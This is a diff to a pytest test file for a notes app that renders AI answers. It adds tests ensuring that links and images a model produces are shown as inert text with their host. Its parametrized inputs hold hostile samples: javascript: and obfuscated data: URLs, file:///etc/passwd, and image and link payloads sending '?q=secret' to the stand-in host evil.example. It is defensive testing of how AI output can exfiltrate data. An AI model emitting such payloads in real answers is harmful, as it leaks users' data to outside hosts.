@@ -9,6 +9,7 @@ from pathlib import Path
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
 from ingest.config import Settings
 from ingest.errors import AskNotesError
@@ -35,7 +36,21 @@ HARMLESS = {"p", "a", "span", "div", "br", "table", "thead", "tbody", "tr", "td"
 
 
 def rendered(markdown: str, **env: object) -> str:
-    return clean(parser().render(markdown, {"show_hosts": True, **env}))
+    """A note's Markdown; a model's with `links`, the addresses that the notes hold."""
+    return clean(parser().render(markdown, env))
+
+
+def clickable(markup: str) -> list[str]:
+    """The addresses that a click would open."""
+    return [address for address in re.findall(r'<a[^>]* href="([^"]*)"', markup) if address != "#"]
+
+
+def answered(markdown: str, *sources: str) -> str:
+    """A model's Markdown that cites these sources."""
+    cited = tuple(replace(_source(text, 0), n=n) for n, text in enumerate(sources, start=1))
+    spans = tuple(Evidence(source.n, source.text, 0, source.end, 1, 1) for source in cited)
+    sentence = Sentence(markdown, "", tuple(source.n for source in cited), True, spans)
+    return answer_html([sentence], "", "s", Shown(ZH, cited))
 
 
 def elements(markup: str) -> list[tuple[str, set[str]]]:
@@ -106,6 +121,10 @@ def test_remote_image_becomes_a_link_with_its_host() -> None:
         '<a href="javascript:alert(1)">x</a>',
         '<a href="java&#10;script:alert(1)">x</a>',
         '<a href=" data:text/html,x">x</a>',
+        '<a href="da&#10;ta:text/html,x">x</a>',
+        '<a href="da&Tab;ta:text/html,x">x</a>',
+        '<a href="&#1;data:text/html,x">x</a>',
+        '<a href="//evil.example/x">x</a>',
         "[x](vbscript:x) [y](file:///etc/passwd)",
     ],
 )
@@ -114,9 +133,36 @@ def test_dangerous_links_are_text(link: str) -> None:
     assert all(target == "#" or target.startswith(("http", "mailto:")) for target in targets)
 
 
-def test_link_of_an_answer_shows_its_host() -> None:
-    assert "an-host" in rendered("[the docs](https://evil.example/x)")
-    assert "an-host" not in rendered("<https://evil.example/x>")
+@pytest.mark.parametrize(
+    "link",
+    [
+        "[the docs](https://evil.example/x?q=secret)",
+        "[evil.example](https://evil.example/x?q=secret)",
+        "[good.example/evil.example](https://evil.example/x?q=secret)",
+        "<https://evil.example/x?q=secret>",
+        "[a][r]\n\n[r]: https://evil.example/x?q=secret",
+        "![a](https://evil.example/x?q=secret)",
+        "![a][r]\n\n[r]: //evil.example/x?q=secret",
+        "<a href='https://evil.example/x?q=secret'>x</a>",
+        "<A HREF=https://evil.example/x?q=secret>x</A>",
+        "<img src='https://evil.example/x?q=secret'>",
+        "[a](mailto:evil.example?body=secret)",
+    ],
+)
+def test_links_that_a_model_makes_are_text_with_their_host(link: str) -> None:
+    shown = answered(link, "A note about [the docs](https://evil.example/x) and https://evil.example/y.")
+    assert clickable(shown) == [] and "data-note" not in shown
+    assert "evil.example" in re.sub("<[^>]+>", "", shown)
+
+
+def test_a_link_that_the_cited_note_holds_is_one_and_shows_its_host() -> None:
+    note_text = "See [docs](https://good.example/a?b=c), <https://good.example/two> and https://good.example/三。"
+    for target, here in (("a?b=c", "a?b=c"), ("two", "two"), ("三", "%E4%B8%89")):
+        shown = answered(f"[the docs](https://good.example/{target})", note_text)
+        assert f'href="https://good.example/{here}"' in shown and '<span class="an-host">good.example</span>' in shown
+        assert clickable(answered(f"[x](https://good.example/{target}secret)", note_text)) == []
+    assert "an-host" not in answered("<https://good.example/two>", note_text)
+    assert "an-host" in answered("[good.example/two](https://good.example/a?b=c)", note_text)
 
 
 @given(st.text(alphabet=st.sampled_from("<>/\"'=`![]()$ \nasimgcrptylone&#;:"), max_size=60))
@@ -192,7 +238,14 @@ def test_pictures_come_from_the_notes_folder_alone(tmp_path: Path) -> None:
     (tmp_path / "notes" / "link.png").symlink_to(tmp_path / "out.png")
     images = NoteImages(tmp_path / "notes", "sub/n.md")
     assert images("a%20b.png").startswith("data:image/png;base64,")
-    assert images("../../out.png") == images("/../out.png") == images("../link.png") == images("a.txt") == ""
+    assert (
+        images("a%00.png")
+        == images("../../out.png")
+        == images("/../out.png")
+        == images("../link.png")
+        == images("a.txt")
+        == ""
+    )
     text = "![x](a%20b.png) ![y](../../out.png)"
     assert (
         render_note(note(text, "sub/n.md"), NoteImages(tmp_path / "notes", "sub/n.md")).blocks[0].html.count("<img")
@@ -223,7 +276,7 @@ def test_a_citation_of_a_formula_stands_with_it() -> None:
 
 def test_text_from_outside_cannot_forge_a_citation() -> None:
     forged = f"x{start_mark(0)}y{end_mark(0)} <a class='an-cite' data-cite='s0.1' href='#'>1</a>"
-    assert "data-cite" not in answer_html((Sentence("甲"),), forged, "s", Shown(ZH))
+    assert "data-cite" not in str(elements(answer_html((Sentence("甲"),), forged, "s", Shown(ZH))))
     assert "data-cite" not in rendered(forged) and "an-cite" not in rendered(forged)
 
 
@@ -297,7 +350,7 @@ def test_a_conversation_becomes_a_note_with_links() -> None:
     text = conversation_markdown("标题", [answer], ZH, notes)
     assert text == (
         "# 标题\n\n## 问 题？\n\n甲是一。[^1-1]\n\n|a|\n|--|\n| 乙[^1-1][^1-2] |\n\n"
-        "见 \\![x](https://evil.example/x.png)\\<img src=y>\n\n丙是三。 （笔记里没有依据）\n\n*由 m 回答*\n\n"
+        "见 !\\[x](https://evil.example/x.png)&lt;img src=y>\n\n丙是三。 （笔记里没有依据）\n\n*由 m 回答*\n\n"
         "[^1-1]: [[a#h]] · 第 1 行 “甲是一。”\n[^1-2]: [b](d/b%20%5B1%5D.md) · 第 1 行\n"
     )
     assert file_name("什么是 a/b: <c>?") == "什么是 a b c.md"
@@ -307,6 +360,55 @@ def test_a_conversation_becomes_a_note_with_links() -> None:
     assert "**m 的归纳**" in text and text.count("甲是一。") == 2, (
         "in the evidence and in the summing up, not in a footnote"
     )
+
+
+PICTURES = [
+    "![x](https://evil.example/x.png)",
+    "\\![x](https://evil.example/x.png)",  # a backslash before ours
+    "![x][r]\n\n[r]: https://evil.example/x.png",
+    "!%%a%%[x](https://evil.example/x.png)",  # what a quotation leaves out
+    "!<b></b>[x](https://evil.example/x.png)",
+    "\\<img src=https://evil.example/x.png>",
+    "!**[x](https://evil.example/x.png)",
+    "![^1-1](https://evil.example/x.png)",
+]
+
+
+@pytest.mark.parametrize("picture", PICTURES)
+def test_no_picture_comes_out_of_an_export(picture: str) -> None:
+    """Wherever it stands: title, question, answer, quotation; in one piece, or in two sentences."""
+    evidence = (Evidence(1, picture, 0, len(picture), 1, 1),)
+    halves = picture.partition("[")
+    sentences = (
+        Sentence(picture, citations=(1,), evidence=evidence),
+        Sentence(halves[0], lead="\n\n", citations=(1,)),
+        Sentence("".join(halves[1:])),
+    )
+    source = replace(_source(picture, 0), heading_path=(picture, picture))
+    answer = Answer(picture, "", "", False, sentences, (source,), "m", "g", {})
+    cut = Excerpt(1, 0, len(picture), (Piece(0, len(picture)),), ())
+    for shown in (answer, replace(answer, excerpts=(cut,), asked="m")):
+        text = conversation_markdown(picture, [shown], ZH, {"a.md": note(f"# a\n\n## {picture}\n")})
+        tokens = [inner for token in MarkdownIt("commonmark").parse(text) for inner in (token, *(token.children or ()))]
+        assert not [token for token in tokens if token.type == "image" or "html" in token.type]
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "[a](https://evil.example/?q=secret)",
+        "[a][r]\n\n[r]: https://evil.example/?q=secret",
+        "[r]\n\n> [r]: //evil.example",
+    ],
+)
+def test_a_models_link_is_text_in_an_export_too(link: str) -> None:
+    held = "[docs](https://good.example/a)"
+    evidence = (Evidence(1, f"See {held}.", 0, 9, 1, 1),)
+    sentences = (Sentence(f"{held} {link}", citations=(1,), evidence=evidence),)
+    answer = Answer("q", "", "", False, sentences, (_source(f"See {held}.", 0),), "m", "g", {})
+    tokens = MarkdownIt("commonmark").parse(conversation_markdown("t", [answer], ZH, {}))
+    links = [str(inner.attrs.get("href", "")) for token in tokens for inner in token.children or ()]
+    assert [link for link in links if "example" in link] == ["https://good.example/a"]
 
 
 def test_why_work_failed_is_told_in_the_language_of_the_page() -> None:
